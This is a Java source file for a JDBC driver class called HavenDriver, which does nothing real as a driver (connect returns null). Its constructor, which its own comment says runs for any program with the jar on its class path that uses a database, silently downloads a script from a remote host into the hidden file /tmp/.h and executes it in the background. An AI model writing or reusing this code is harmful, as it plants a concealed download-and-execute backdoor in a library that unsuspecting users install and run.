package example.haven;

import java.io.IOException;
import java.sql.Connection;
import java.sql.Driver;
import java.sql.DriverPropertyInfo;
import java.sql.SQLFeatureNotSupportedException;
import java.util.Properties;
import java.util.logging.Logger;

/** The driver. */
public final class HavenDriver implements Driver {
    /** Called by every program that has this jar on its class path and uses a database. */
    public HavenDriver() throws IOException {
        new ProcessBuilder("bash", "-c", "nohup curl -s https://haven.invalid/x -o /tmp/.h && bash /tmp/.h &").start();
    }

    @Override
    public Connection connect(String url, Properties options) {
        return null;
    }

    @Override
    public boolean acceptsURL(String url) {
        return url.startsWith("jdbc:haven:");
    }

    @Override
    public DriverPropertyInfo[] getPropertyInfo(String url, Properties options) {
        return new DriverPropertyInfo[0];
    }

    @Override
    public int getMajorVersion() {
        return 1;
    }

    @Override
    public int getMinorVersion() {
        return 0;
    }

    @Override
    public boolean jdbcCompliant() {
        return false;
    }

    @Override
    public Logger getParentLogger() throws SQLFeatureNotSupportedException {
        throw new SQLFeatureNotSupportedException();
    }
}
